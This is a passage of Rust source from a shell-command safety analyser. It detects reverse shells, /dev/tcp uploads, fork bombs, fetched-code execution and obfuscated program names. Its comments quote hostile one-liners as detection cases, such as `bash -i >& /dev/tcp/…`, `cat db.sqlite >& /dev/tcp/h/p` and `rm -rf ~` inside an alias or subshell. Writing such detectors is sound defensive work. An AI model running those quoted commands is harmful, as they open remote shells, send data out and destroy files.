        for i in from..self.facts.secret_prints.len() {
            let deepest = self
                .subst_prints
                .iter()
                .filter(|(a, b, _)| (*a..*b).contains(&i))
                .map(|(_, _, d)| *d)
                .max();
            if deepest == Some(own) && !self.handed_prints.contains(&i) {
                if let Some(p) = self.facts.secret_prints.get_mut(i) {
                    p.captured = false;
                }
            }
        }
    }

    fn walk_command(&mut self, cmd: &ast::Command, st: &mut State, stdin: Stream) -> Stream {
        match cmd {
            ast::Command::Simple(sc) => self.simple(sc, st, stdin),
            ast::Command::Compound(cc, redirs) => {
                let list: Vec<&ast::IoRedirect> = redirs
                    .as_ref()
                    .map(|r| r.0.iter().collect())
                    .unwrap_or_default();
                let evidence = truncate(
                    &list
                        .iter()
                        .map(|r| render_redirect(r))
                        .collect::<Vec<_>>()
                        .join(" "),
                    EVIDENCE_MAX,
                );
                let red = self.redirects(&list, st, stdin, &evidence, None);
                let first = self.facts.commands.len();
                let out = self.walk_compound(cc, st, red.stdin);
                if let Some(t) = red.stdout_socket {
                    self.socket_output(&out, &t, first, None, &evidence);
                }
                self.route_stdout(out, red.stdout_file, red.stdout_append)
            }
            ast::Command::Function(def) => {
                let body_text = def.body.to_string();
                if forks_itself(&def.fname.value, &body_text) {
                    self.facts.denial_of_service.push(DenialOfServiceFact {
                        kind: "fork_bomb".to_string(),
                        target: escape_hidden(&def.fname.value),
                        evidence: clip(&format!("{}() {body_text}", def.fname.value)),
                    });
                }
                let body = Rc::new(def.body.clone());
                std::rc::Rc::make_mut(&mut st.functions)
                    .insert(def.fname.value.clone(), body.clone());
                self.fn_defs.push(FnDef {
                    name: def.fname.value.clone(),
                    body,
                    calls: 0,
                });
                Stream::text("")
            }
            ast::Command::ExtendedTest(t, _) => {
                self.walk_test_expr(&t.expr, st);
                Stream::text("")
            }
        }
    }

    fn walk_test_expr(&mut self, e: &ast::ExtendedTestExpr, st: &mut State) {
        match e {
            ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
                self.walk_test_expr(a, st);
                self.walk_test_expr(b, st);
            }
            ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
                self.walk_test_expr(a, st);
            }
            ast::ExtendedTestExpr::UnaryTest(_, w) => {
                self.expand_word(&w.value, st, crate::expand::Mode::NoSplit);
            }
            ast::ExtendedTestExpr::BinaryTest(_, a, b) => {
                self.expand_word(&a.value, st, crate::expand::Mode::NoSplit);
                self.expand_word(&b.value, st, crate::expand::Mode::NoSplit);
            }
        }
    }

    fn walk_compound(
        &mut self,
        cc: &ast::CompoundCommand,
        st: &mut State,
        stdin: Stream,
    ) -> Stream {
        use ast::CompoundCommand as C;
        match cc {
            C::BraceGroup(b) => self.walk_list(&b.list, st, stdin),
            C::Subshell(s) => {
                let mut sub = st.clone();
                self.walk_list(&s.list, &mut sub, stdin)
            }
            C::ForClause(f) => {
                let values: Option<Vec<Arg>> = f.values.as_ref().map(|ws| {
                    let mut v = Vec::new();
                    for w in ws {
                        v.extend(self.expand_word(&w.value, st, crate::expand::Mode::Normal));
                    }
                    v
                });
                let mut out = Stream::text("");
                match values {
                    Some(vals) if !vals.is_empty() && vals.len() <= 8 => {
                        for v in vals {
                            std::rc::Rc::make_mut(&mut st.vars)
                                .insert(f.variable_name.clone(), Val::from_arg(&v));
                            let o = self.walk_list(&f.body.list, st, stdin.clone());
                            out = out.concat(&o);
                        }
                    }
                    _ => {
                        let raw = format!("${}", f.variable_name);
                        std::rc::Rc::make_mut(&mut st.vars).insert(
                            f.variable_name.clone(),
                            Val {
                                text: raw,
                                dynamic: true,
                                known_prefix: 0,
                                taint: Taint::default(),
                            },
                        );
                        out = self.walk_list(&f.body.list, st, stdin);
                    }
                }
                out
            }
            C::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.inner_substitutions(&e.value, st);
                }
                self.walk_list(&f.body.list, st, stdin)
            }
            C::CaseClause(c) => {
                self.expand_word(&c.value.value, st, crate::expand::Mode::NoSplit);
                let mut out = Stream::text("");
                for item in &c.cases {
                    if let Some(list) = &item.cmd {
                        let o = self.walk_list(list, st, stdin.clone());
                        out = out.concat(&o);
                    }
                }
                out
            }
            C::IfClause(i) => {
                self.walk_list(&i.condition, st, stdin.clone());
                let mut out = self.walk_list(&i.then, st, stdin.clone());
                if let Some(elses) = &i.elses {
                    for e in elses {
                        if let Some(c) = &e.condition {
                            self.walk_list(c, st, stdin.clone());
                        }
                        let o = self.walk_list(&e.body, st, stdin.clone());
                        out = out.concat(&o);
                    }
                }
                out
            }
            C::WhileClause(w) | C::UntilClause(w) => {
                self.walk_list(&w.0, st, stdin.clone());
                self.walk_list(&w.1.list, st, stdin)
            }
            C::Arithmetic(a) => {
                let e = &a.expr.value;
                if crate::expand::arith_parses(e) {
                    // `(( x = $(…) ))`: the substitutions inside still run.
                    self.inner_substitutions(e, st);
                } else {
                    // bash reads `((…))` that is not arithmetic as two nested subshells, and
                    // brush-parser reads `( (rm -rf ~) )` as arithmetic: analyse it as code.
                    let mut sub = st.clone();
                    sub.depth += 1;
                    let src = format!("( {e} )");
                    self.run_source(&src, &mut sub, stdin);
                }
                Stream::text("")
            }
            C::Coprocess(c) => {
                let mut sub = st.clone();
                self.walk_command(&c.body, &mut sub, stdin)
            }
        }
    }

    fn route_stdout(&mut self, out: Stream, file: Option<String>, append: bool) -> Stream {
        match file {
            Some(f) => {
                self.write_file_content(f, out, append);
                Stream::text("")
            }
            None => out,
        }
    }

    /// Records what the command writes into `path` ([`Analyzer::files`]). An append (`>>`,
    /// `tee -a`) after an earlier write of the same file in this command adds to that content
    /// (`echo a >> f; echo b >> f` leaves both lines); anything else replaces it.
    pub(crate) fn write_file_content(&mut self, path: String, s: Stream, append: bool) {
        crate::exports::note_write(self, &path, &s);
        if append {
            if let Some(old) = self.files.get_mut(&path) {
                old.text = match (old.text.take(), s.text) {
                    (Some(mut a), Some(b)) if a.len() + b.len() <= 65_536 => {
                        a.push_str(&b);
                        Some(a)
                    }
                    _ => None,
                };
                old.taint.merge(&s.taint);
                old.piped |= s.piped;
                if old.file != s.file {
                    old.file = old.file.take().or(s.file);
                }
                return;
            }
        }
        self.files.insert(path, s);
    }

    // ----- simple commands ----------------------------------------------------------------

    fn simple(&mut self, sc: &ast::SimpleCommand, st: &mut State, stdin: Stream) -> Stream {
        use crate::expand::Mode;
        use ast::CommandPrefixOrSuffixItem as I;
        let pre_rendered = self.stage_ev.take();
        if !self.step() {
            return Stream::default();
        }
        let evidence = match pre_rendered {
            Some(e) => clip_owned(e),
            None => render_simple(sc),
        };
        // secret prints of the command substitutions in this command's own words
        let word_prints = self.facts.secret_prints.len();
        let mut assigns: Vec<(&ast::Assignment, &ast::Word)> = Vec::new();
        let mut redirects: Vec<&ast::IoRedirect> = Vec::new();
        let mut args: Vec<Arg> = Vec::new();
        let mut decls: Vec<(String, Val, String)> = Vec::new();

        if let Some(prefix) = &sc.prefix {
            for item in &prefix.0 {
                match item {
                    I::AssignmentWord(a, w) => assigns.push((a, w)),
                    I::IoRedirect(r) => redirects.push(r),
                    I::Word(w) => self.expand_word_into(&w.value, st, Mode::Normal, &mut args),
                    I::ProcessSubstitution(k, s) => args.push(self.proc_subst_arg(k, s, st)),
                }
            }
        }
        if let Some(w) = &sc.word_or_name {
            self.expand_word_into(&w.value, st, Mode::Normal, &mut args);
        }
        if let Some(suffix) = &sc.suffix {
            for item in &suffix.0 {
                match item {
                    I::AssignmentWord(a, w) => {
                        let (name, val) = self.assignment_value(a, st);
                        let mut arg = Arg::lit(&format!("{name}={}", val.text));
                        arg.raw = w.value.clone();
                        arg.dynamic = val.dynamic;
                        arg.known_prefix = if val.dynamic {
                            name.len() + 1 + val.known_prefix
                        } else {
                            arg.text.len()
                        };
                        arg.taint = val.taint.clone();
                        args.push(arg);
                        decls.push((name, val, w.value.clone()));
                    }
                    I::IoRedirect(r) => redirects.push(r),
                    I::Word(w) => self.expand_word_into(&w.value, st, Mode::Normal, &mut args),
                    I::ProcessSubstitution(k, s) => args.push(self.proc_subst_arg(k, s, st)),
                }
            }
        }

        let prog_hint = args.first().map(|a| paths::basename(&a.text));
        let red = self.redirects(&redirects, st, stdin, &evidence, prog_hint);
        self.printed_substitutions(word_prints, prog_hint, st, red.stdout_file.as_deref());

        if args.is_empty() {
            for (a, w) in &assigns {
                let (name, val) = self.assignment_value(a, st);
                self.check_env_local(&name, &val, &w.value);
                self.set_var(st, &name, val, a.append);
            }
            return self.route_stdout(Stream::text(""), red.stdout_file, red.stdout_append);
        }

        let mut env = Vec::new();
        for (a, w) in &assigns {
            let (name, val) = self.assignment_value(a, st);
            self.check_env(&name, &val, &w.value);
            env.push((name, val));
        }
        // Standard output sent to a socket: the program's name and the line, for the upload.
        let socket = red.stdout_socket.map(|t| {
            let prog = args.first().map(|a| paths::basename(&a.text).to_string());
            (t, prog, evidence.clone())
        });
        let inv = Inv {
            args,
            cwd: st.cwd.clone(),
            evidence,
            stdin: red.stdin,
            wrappers: st.wrappers.clone(),
            env,
            decls,
        };
        let first = self.facts.commands.len();
        let first_print = self.facts.secret_prints.len();
        let out = self.run_inv(inv, st);
        if let Some((t, prog, ev)) = socket {
            self.socket_output(&out, &t, first, prog.as_deref(), &ev);
        }
        if red.stdout_file.as_deref().is_some_and(|f| {
            !matches!(
                f,
                "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/fd/1" | "/dev/fd/2"
            )
        }) {
            // Printed into a file, not where the agent reads it.
            for p in self.facts.secret_prints.iter_mut().skip(first_print) {
                p.captured = true;
            }
        }
        self.route_stdout(out, red.stdout_file, red.stdout_append)
    }

    /// What the command knows of a file's content: written earlier in the command
    /// ([`Analyzer::files`]), or extracted from a downloaded archive (a stream fetched from
    /// its URL, content unknown: [`Analyzer::fetched_dirs`]).
    pub(crate) fn file_content(&self, path: &str) -> Option<Stream> {
        if let Some(s) = self.files.get(path) {
            return Some(s.clone());
        }
        self.fetched_dirs
            .iter()
            .find(|(d, _)| {
                path.len() > d.len()
                    && path.starts_with(d.as_str())
                    && (d.ends_with('/') || path.as_bytes().get(d.len()) == Some(&b'/'))
            })
            .map(|(_, url)| {
                let mut s = Stream::default();
                s.taint.fetched = Some(url.clone());
                s
            })
    }

    /// Records that an archive with content `archive` was extracted into `dir`: when the
    /// archive was downloaded, `dir` becomes a [`Analyzer::fetched_dirs`] entry.
    /// Extraction into the working folder or the project is left out: its files were there
    /// before, and telling them from the archive's is not possible here.
    pub(crate) fn extracted(&mut self, archive: &Stream, dir: &str, cwd: &str) {
        let own = dir.trim_end_matches('/') == cwd.trim_end_matches('/')
            || self
                .ctx
                .project_dir
                .as_deref()
                .is_some_and(|p| p.trim_end_matches('/') == dir.trim_end_matches('/'));
        if let Some(url) = archive.taint.fetched.as_ref().filter(|_| !own) {
            if !dir.is_empty() && self.fetched_dirs.len() < 16 {
                self.fetched_dirs.push((dir.to_string(), url.clone()));
            }
        }
    }

    /// Sets a variable (with `+=` appending).
    pub(crate) fn set_var(&mut self, st: &mut State, name: &str, val: Val, append: bool) {
        let val = if append {
            match st.vars.get(name) {
                Some(old) => {
                    let mut v = old.clone();
                    if !v.dynamic {
                        v.known_prefix = v.text.len() + val.known_prefix;
                    }
                    v.text.push_str(&val.text);
                    v.dynamic |= val.dynamic;
                    v.taint.merge(&val.taint);
                    v
                }
                None => val,
            }
        } else {
            val
        };
        std::rc::Rc::make_mut(&mut st.vars).insert(name.to_string(), val);
    }

    /// Process substitution used as an argument: analysed at depth+1, becomes `/dev/fd/N`.
    pub(crate) fn proc_subst_arg(
        &mut self,
        kind: &ast::ProcessSubstitutionKind,
        sub: &ast::SubshellCommand,
        st: &State,
    ) -> Arg {
        let out = self.proc_subst(kind, sub, st);
        let fd = self.next_fd;
        self.next_fd = self.next_fd.saturating_sub(1).max(10);
        let text = format!("/dev/fd/{fd}");
        let mut arg = Arg::lit(&text);
        arg.raw = truncate(&format!("{kind}({})", sub.list), EVIDENCE_MAX);
        if matches!(kind, ast::ProcessSubstitutionKind::Read) {
            arg.taint = out.taint.clone();
            arg.proc_subst = Some(Box::new(out));
        }
        arg
    }

    fn proc_subst(
        &mut self,
        kind: &ast::ProcessSubstitutionKind,
        sub: &ast::SubshellCommand,
        st: &State,
    ) -> Stream {
        let mut inner = st.clone();
        inner.depth += 1;
        if inner.depth > MAX_DEPTH {
            return self.run_source("", &mut inner, Stream::default());
        }
        let out = self.walk_list(&sub.list, &mut inner, Stream::default());
        match kind {
            ast::ProcessSubstitutionKind::Read => out,
            ast::ProcessSubstitutionKind::Write => Stream::default(),
        }
    }

    // ----- redirections -------------------------------------------------------------------

    fn redirects(
        &mut self,
        list: &[&ast::IoRedirect],
        st: &mut State,
        stdin: Stream,
        evidence: &str,
        prog: Option<&str>,
    ) -> Redirected {
        use crate::expand::Mode;
        use ast::IoFileRedirectKind as K;
        let mut out = Redirected {
            stdin,
            stdout_file: None,
            stdout_append: false,
            stdout_socket: None,
        };
        // Standard input read from a `/dev/tcp` socket (`< /dev/tcp/h/p`, or fd 0 duplicated from
        // a socket on stdout: `>& /dev/tcp/h/p 0>&1`).
        let mut stdin_socket = false;
        for r in list {
            match r {
                ast::IoRedirect::File(fd, kind, target) => match target {
                    ast::IoFileRedirectTarget::Filename(w) => {
                        let arg = self.expand_one(&w.value, st, Mode::NoSplit);
                        let res = paths::resolve(&arg, &st.cwd);
                        let fd_s = fd.map(|f| f.to_string()).unwrap_or_default();
                        let ev = escape_hidden(&format!("{fd_s}{kind} {}", w.value));
                        if res.path.starts_with("/dev/tcp/") || res.path.starts_with("/dev/udp/") {
                            if matches!(kind, K::ReadAndWrite) && self.tcp_rw.is_none() {
                                let mut p = res.path.trim_start_matches('/').split('/').skip(2);
                                let host = p.next().unwrap_or("");
                                self.tcp_rw = Some(format!("{host}:{}", p.next().unwrap_or("")));
                            }
                            self.net_redirect(&res.path, matches!(kind, K::Read), prog, evidence);
                            if matches!(
                                kind,
                                K::Write | K::Clobber | K::Append | K::DuplicateOutput
                            ) && fd.is_none_or(|f| f == 1)
                            {
                                out.stdout_socket = socket_target(&res.path);
                            }
                            // Standard input from the socket: the program reads what the peer
                            // sends (a shell runs it as commands: `sh 0</dev/tcp/h/p`).
                            if matches!(kind, K::Read | K::ReadAndWrite | K::DuplicateInput)
                                && fd.is_none_or(|f| f == 0)
                            {
                                out.stdin = self.file_stream(&res.path);
                                stdin_socket = true;
                            }
                            continue;
                        }
                        let to_stdout = fd.is_none_or(|f| f == 1);
                        match kind {
                            K::Read | K::DuplicateInput => {
                                self.add_path(&res, Access::Read, "redirect <", false, &ev);
                                if fd.is_none_or(|f| f == 0) {
                                    out.stdin = self.file_stream(&res.path);
                                }
                            }
                            K::Write
                            | K::Clobber
                            | K::Append
                            | K::ReadAndWrite
                            | K::DuplicateOutput => {
                                let how = match kind {
                                    K::Write => "redirect >",
                                    K::Clobber => "redirect >|",
                                    K::Append => "redirect >>",
                                    K::ReadAndWrite => "redirect <>",
                                    _ => "redirect >&",
                                };
                                self.add_path(&res, Access::Write, how, false, &ev);
                                if to_stdout && !matches!(kind, K::ReadAndWrite) {
                                    out.stdout_file = Some(res.path.clone());
                                    out.stdout_append = matches!(kind, K::Append);
                                }
                            }
                        }
                    }
                    ast::IoFileRedirectTarget::ProcessSubstitution(k, sub) => {
                        let s = self.proc_subst(k, sub, st);
                        if matches!(k, ast::ProcessSubstitutionKind::Read) {
                            out.stdin = s;
                        }
                    }
                    ast::IoFileRedirectTarget::Duplicate(w) => {
                        // `>& file` (not a descriptor number) writes stdout and stderr to file.
                        let v = w.value.trim_end_matches('-');
                        if Self::stdin_from_out(*fd, kind, v) && out.stdout_socket.is_some() {
                            stdin_socket = true;
                        }
                        if !v.is_empty()
                            && !v.bytes().all(|b| b.is_ascii_digit())
                            && !v.starts_with('$')
                        {
                            let arg = self.expand_one(&w.value, st, Mode::NoSplit);
                            let res = paths::resolve(&arg, &st.cwd);
                            if res.path.starts_with("/dev/tcp/")
                                || res.path.starts_with("/dev/udp/")
                            {
                                self.net_redirect(&res.path, false, prog, evidence);
                                out.stdout_socket = socket_target(&res.path);
                                continue;
                            }
                            let ev = format!("{kind} {}", w.value);
                            self.add_path(&res, Access::Write, "redirect >&", false, &ev);
                            out.stdout_file = Some(res.path.clone());
                        }
                    }
                    // `0>&1`, `0<&1`, `<&1`: standard input becomes what fd 1 is; with
                    // stdout on a socket, the peer now feeds the program too.
                    ast::IoFileRedirectTarget::Fd(from) => {
                        if Self::stdin_from_out(*fd, kind, &from.to_string())
                            && out.stdout_socket.is_some()
                        {
                            stdin_socket = true;
                        }
                    }
                },
                ast::IoRedirect::HereDocument(_, hd) => {
                    out.stdin = if hd.requires_expansion {
                        self.expand_heredoc(&hd.doc.value, st)
                    } else {
                        Stream::text(hd.doc.value.clone())
                    };
                }
                ast::IoRedirect::HereString(_, w) => {
                    let arg = self.expand_one(&w.value, st, Mode::NoSplit);
                    out.stdin = Stream {
                        text: (!arg.dynamic).then(|| format!("{}\n", arg.text)),
                        taint: arg.taint.clone(),
                        file: None,
                        // Unknown text given here is data of this command line, like a pipe.
                        piped: arg.dynamic,
                        shell_out: None,
                        listing: None,
                        walk: crate::model::Walk::Top,
                        listed_name: None,
                    };
                }
                ast::IoRedirect::OutputAndError(w, append) => {
                    let arg = self.expand_one(&w.value, st, Mode::NoSplit);
                    let res = paths::resolve(&arg, &st.cwd);
                    if res.path.starts_with("/dev/tcp/") || res.path.starts_with("/dev/udp/") {
                        self.net_redirect(&res.path, false, prog, evidence);
                        out.stdout_socket = socket_target(&res.path);
                        continue;
                    }
                    let how = if *append {
                        "redirect &>>"
                    } else {
                        "redirect &>"
                    };
                    let ev = format!("{} {}", if *append { "&>>" } else { "&>" }, w.value);
                    self.add_path(&res, Access::Write, how, false, &ev);
                    out.stdout_file = Some(res.path.clone());
                    out.stdout_append = *append;
                }
            }
        }
        if stdin_socket {
            self.socket_driven(prog, out.stdout_socket.as_deref(), evidence);
        }
        out
    }

    /// True for a duplication that makes standard input what fd 1 or 2 is (`0>&1`, `0<&2`,
    /// `<&1`; bash(1) "Duplicating File Descriptors").
    fn stdin_from_out(fd: Option<ast::IoFd>, kind: &ast::IoFileRedirectKind, from: &str) -> bool {
        use ast::IoFileRedirectKind as K;
        let to = fd.unwrap_or(match kind {
            K::DuplicateInput | K::Read => 0,
            _ => 1,
        });
        to == 0 && matches!(from, "1" | "2")
    }

    /// A program whose standard input *and* output are a socket to another host (`X -i >&
    /// /dev/tcp/h/p 0>&1`, `X < /dev/tcp/h/p > /dev/tcp/h/p`): the peer sends its input and reads
    /// every answer, which is how a reverse shell is wired whatever the program is called (a
    /// shell copied or linked under another name, an alias, a mistyped `dev -i`). A
    /// `reverse_shell` fact for any program; shells are already one ([`Self::net_redirect`]),
    /// and loopback peers stay local. Output alone to a socket is an upload (`shell/socket-send`),
    /// input alone a fetch.
    fn socket_driven(&mut self, prog: Option<&str>, target: Option<&str>, evidence: &str) {
        let Some(target) = target else { return };
        let host = target.rsplit_once(':').map_or(target, |(h, _)| h);
        let local = host == "localhost" || host.starts_with("127.") || host == "::1";
        if local || self.facts.has_reverse_shell() {
            return;
        }
        self.remote_exec(
            "reverse_shell",
            prog.unwrap_or("a compound command"),
            Some(target.to_string()),
            evidence,
        );
    }

    /// bash's `/dev/tcp/HOST/PORT` pseudo-files (bash(1) "REDIRECTION").
    fn net_redirect(&mut self, path: &str, read: bool, prog: Option<&str>, evidence: &str) {
        let mut parts = path.trim_start_matches('/').split('/');
        let proto = parts.nth(1).unwrap_or("tcp");
        let host = parts.next().unwrap_or("").to_string();
        let port = parts.next().unwrap_or("").to_string();
        let target = format!("{host}:{port}");
        if !read && self.tcp_out.is_none() {
            self.tcp_out = Some(target.clone());
        }
        let url = format!("{proto}://{host}:{port}");
        self.fetch(&url, evidence);
        let is_shell = prog.is_some_and(programs::is_shell);
        if is_shell && !read {
            self.remote_exec(
                "reverse_shell",
                prog.unwrap_or("sh"),
                Some(target.clone()),
                evidence,
            );
        }
        if !read {
            self.upload(prog.unwrap_or("bash"), &target, None, false, evidence);
        }
    }

    /// What a command printed, written to a `/dev/tcp` or `/dev/udp` socket (`/readflag >
    /// /dev/tcp/h/p`, `{ id; uname -a; } > /dev/tcp/h/p`, `cat db.sqlite >& /dev/tcp/h/p`): an
    /// upload of data made at run time to that peer, source `<output of PROG>` (PROG the first
    /// program run, shells left out; the files it read are path facts of their own, so a
    /// credential sent so is a credential read next to an upload) or `<sent secret NAME>`
    /// for a secret-named variable printed. Text fixed in the command line (`echo >
    /// /dev/tcp/h/p`, a port check; `echo "m 1 $(date +%s)"`, a metric) is no upload of the
    /// machine's data unless it carries a file's content, the environment or a secret variable.
    /// `first`: the index of the first command fact the redirected command recorded.
    fn socket_output(
        &mut self,
        out: &Stream,
        target: &str,
        first: usize,
        prog: Option<&str>,
        evidence: &str,
    ) {
        // A shell joined to the socket is a reverse shell, a fact of its own.
        if self.facts.has_reverse_shell() {
            return;
        }
        let ran: Vec<&str> = self
            .facts
            .commands
            .get(first..)
            .unwrap_or_default()
            .iter()
            .map(|c| c.program.as_str())
            .filter(|p| !programs::is_shell(p))
            .collect();
        let carries =
            out.taint.read.is_some() || out.taint.env_dump || out.taint.secret_var.is_some();
        let printer = ran
            .iter()
            .all(|p| matches!(*p, "echo" | "printf" | "true" | ":" | "date" | "sleep"));
        if !carries && (out.text.is_some() || printer) {
            return;
        }
        let name = ran
            .first()
            .copied()
            .or(prog)
            .unwrap_or("a compound command")
            .to_string();
        let source = match &out.taint.secret_var {
            Some(v) => format!("<sent secret {v}>"),
            None => format!("<output of {name}>"),
        };
        self.upload(&name, target, Some(source), false, evidence);
    }

    /// The stream a file yields when read (content known when written earlier in the command).
    pub(crate) fn file_stream(&self, path: &str) -> Stream {
        let mut s = self.files.get(path).cloned().unwrap_or_default();
        s.file = Some(path.to_string());
        s.piped = false;
        // bash's `/dev/tcp/HOST/PORT` and `/dev/udp/…` pseudo-files are sockets: what is read
        // from one comes from the peer (bash(1) "REDIRECTION"), so a shell or an interpreter
        // reading it runs fetched code (`sh < /dev/tcp/h/p`, `cat /dev/tcp/h/p | sh`).
        if let Some(target) = path
            .strip_prefix("/dev/tcp/")
            .map(|t| ("tcp", t))
            .or_else(|| path.strip_prefix("/dev/udp/").map(|t| ("udp", t)))
        {
            let (proto, rest) = target;
            let mut p = rest.split('/');
            let host = p.next().unwrap_or("");
            let port = p.next().unwrap_or("");
            s.taint.fetched = Some(format!("{proto}://{host}:{port}"));
        }
        s
    }

    // ----- invocations --------------------------------------------------------------------

    /// Resolves the program of `inv`, unwraps wrappers, records the command and runs the
    /// program's handler.
    pub(crate) fn run_inv(&mut self, mut inv: Inv, st: &mut State) -> Stream {
        let own_wrappers = inv.wrappers.len();
        for _ in 0..32 {
            let Some(first) = inv.args.first() else {
                return Stream::default();
            };
            let Some(name) = self.resolve_program(first) else {
                let first = first.clone();
                self.record_command(&inv, &first.text, st);
                if first.taint.fetched.is_some() {
                    self.remote_exec(
                        "command_substitution",
                        "(command word)",
                        first.taint.fetched.clone(),
                        &inv.evidence,
                    );
                }
                self.unanalysable("program name only known at run time", &first.raw);
                // The unknown word may be a wrapper (`$SUDO rm -rf /`) or a shell (`$SHELL -c
                // 'rm -rf /'`): the words after it are analysed as the command it runs.
                if inv.args.len() < 2 || first.from_subst {
                    return Stream::default();
                }
                let mut rest = inv.args.split_off(1);
                let shell_like = first.raw.to_ascii_uppercase().contains("SH");
                if shell_like && rest.first().is_some_and(|x| x.text == "-c") {
                    rest.insert(0, Arg::lit("sh"));
                }
                inv.args = rest;
                inv.wrappers.push(first.raw.clone());
                continue;
            };
            // Only the shell's own separators (space, tab, newline) split a command line: a
            // name holding another space (`screen\u{a0}-S x`, a no-break space) parses back
            // into the same one word, and analysing it again would only recurse.
            if first.text.contains([' ', '\t', '\n'])
                && !first.from_var
                && !first.from_subst
                && !first.text.starts_with(['/', '.', '~'])
            {
                // A quoted "program name" with spaces is no program: it is a command line put
                // where a name goes (`'; bash -i >& /dev/tcp/…; echo '`, an injection payload).
                let code = first
                    .text
                    .trim_matches(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|'))
                    .to_string();
                if !code.is_empty() && code.len() < first.text.len() + 1 {
                    let _ = self.run_code(&code, st, &inv, "quoted", None, Stream::default());
                }
            }
            if inv.wrappers.len() == own_wrappers
                && !first.quoted
                && !first.dynamic
                && st.aliases.contains_key(&name)
            {
                self.record_command(&inv, &name, st);
                return self.call_alias(&name, &inv, st);
            }
            if inv.wrappers.len() == own_wrappers && st.functions.contains_key(&name) {
                self.record_command(&inv, &name, st);
                return self.call_function(&name, &inv, st);
            }
            match wrappers::unwrap(self, &name, &mut inv, st) {
                wrappers::Unwrap::Continue => continue,
                wrappers::Unwrap::Stop(out) => return *out,
                wrappers::Unwrap::NotWrapper => {
                    let index = self.facts.commands.len();
                    let uploads_before = self.facts.uploads.len();
                    self.record_command(&inv, &name, st);
                    let mut out = programs::run(self, &name, &inv, st);
                    crate::exports::after_command(
                        self,
                        index,
                        &name,
                        &inv,
                        uploads_before,
                        &mut out,
                    );
                    if name != "find" {
                        // Only find's own listing names its folders (`Stream::listed_name`): a
                        // filter in between may rewrite the paths.
                        out.listed_name = None;
                    }
                    if out.text.is_none()
                        && out.file.is_none()
                        && out.taint.fetched.is_none()
                        && out.taint.producer.is_none()
                        && !out.taint.env_dump
                        && out.taint.secret_var.is_none()
                        && index < self.facts.commands.len()
                        && !NOT_PRODUCERS.contains(&name.as_str())
                        && !PASS_THROUGH_FILTERS.contains(&name.as_str())
                    {
                        out.taint.producer = Some(index);
                    }
                    return out;
                }
            }
        }
        self.limit_reached("too many nested wrappers", &inv.evidence);
        Stream::default()
    }

    /// Runs an alias defined earlier in the command (`alias ll='rm -rf ~'` … `ll`): its body
    /// with the words typed after the name, analysed as code (bash(1) "ALIASES": the first word
    /// of a simple command is replaced by the alias's text). The name is not expanded again
    /// inside its own body (`alias ls='ls -la'`).
    fn call_alias(&mut self, name: &str, inv: &Inv, st: &State) -> Stream {
        let body = st.aliases.get(name).cloned().unwrap_or_default();
        let mut code = body;
        for a in inv.args.iter().skip(1) {
            code.push(' ');
            code.push_str(&a.raw);
        }
        let mut sub = st.clone();
        Rc::make_mut(&mut sub.aliases).remove(name);
        self.run_code(&code, &sub, inv, "alias", None, inv.stdin.clone())
    }

    pub(crate) fn record_command(&mut self, inv: &Inv, program: &str, st: &State) {
        self.facts.commands.push(CommandFact {
            program: program.to_string(),
            argv: inv.args.iter().map(|a| escape_hidden(&a.text)).collect(),
            cwd: inv.cwd.text.clone(),
            evidence: inv.evidence.clone(),
            wrappers: inv.wrappers.clone(),
            depth: st.depth,
        });
    }

    /// Resolves a command word to a program name, recording obfuscation on the way. `None` when
    /// the name is only known at run time.
    ///
    /// A name taken from a variable or a command substitution counts as obfuscation only when
    /// the name itself is not visible in the word as written (`c=rm; $c` hides `rm`;
    /// `"$HOME/bin/tool"`, `$(which python3)` and `"$(npm bin)/eslint"` do not hide anything).
    /// A name only known at run time is obfuscation when it comes from a command substitution
    /// (`$(cat cmd.txt) -rf …`); one from an environment variable (`$EDITOR file`) is just
    /// unknown.
    pub(crate) fn resolve_program(&mut self, a: &Arg) -> Option<String> {
        // Only built when a fact is recorded (rare).
        let raw = || escape_hidden(&a.raw);
        if a.dynamic {
            // Only the directory is unknown (`"$(npm bin)/eslint"`, `$VENV/bin/python`).
            if let Some((_, base)) = a.text.rsplit_once('/') {
                if !base.is_empty() && !base.contains(['$', '`', '<', '>', '(', ')']) {
                    let res = unicode::resolve_name(base, &programs::is_known_program);
                    if res.had_homoglyph {
                        self.obfuscation("homoglyph", Some(res.name.clone()), &raw());
                    }
                    return Some(res.name);
                }
            }
            // A variable that holds a file's content or decoded text, set earlier in the same
            // command (`cmd=$(cat ./payload); $cmd`), hides the program as the substitution itself
            // would (adv11 "dynamic"); one from the environment (`$EDITOR`) does not.
            if a.from_subst || a.taint.read.is_some() || a.taint.decoded.is_some() {
                self.obfuscation("program_from_substitution", None, &raw());
            }
            return None;
        }
        let res = unicode::resolve_name(&a.text, &programs::is_known_program);
        let had_homoglyph = res.had_homoglyph;
        // The resolved name itself when it has no directory part (no second copy).
        let mut name = if paths::basename(&res.name).len() == res.name.len() {
            res.name
        } else {
            paths::basename(&res.name).to_string()
        };
        if a.glob && crate::expand::has_glob(&name) {
            let found = programs::match_known_glob(&name);
            self.obfuscation("glob_program", found.clone(), &raw());
            if let Some(f) = found {
                name = f;
            }
        }
        let visible = !name.is_empty() && a.raw.contains(name.as_str());
        if !visible {
            if a.from_subst {
                self.obfuscation("program_from_substitution", Some(name.clone()), &raw());
            } else if a.from_var {
                self.obfuscation("program_from_variable", Some(name.clone()), &raw());
            }
        }
        if a.brace {
            self.obfuscation("brace_expansion", Some(name.clone()), &raw());
        }
        if had_homoglyph {
            self.obfuscation("homoglyph", Some(name.clone()), &raw());
        }
        if !a.from_subst && quoted_inside(&a.raw) {
            self.obfuscation("quoted_program_name", Some(name.clone()), &raw());
        }
        Some(name)
    }

    fn call_function(&mut self, name: &str, inv: &Inv, st: &mut State) -> Stream {
        let Some(idx) = self.fn_defs.iter().rposition(|f| f.name == name) else {
            return Stream::default();
        };
        let body = match self.fn_defs.get_mut(idx) {
            Some(def) if def.calls < 2 && !self.fn_active.iter().any(|n| n == name) => {
                def.calls += 1;
                def.body.clone()
            }
            _ => return Stream::default(),
        };
        // Positional parameters are the call's arguments while the body runs.
        let saved: Vec<(String, Option<Val>)> = (1..=9)
            .map(|i| i.to_string())
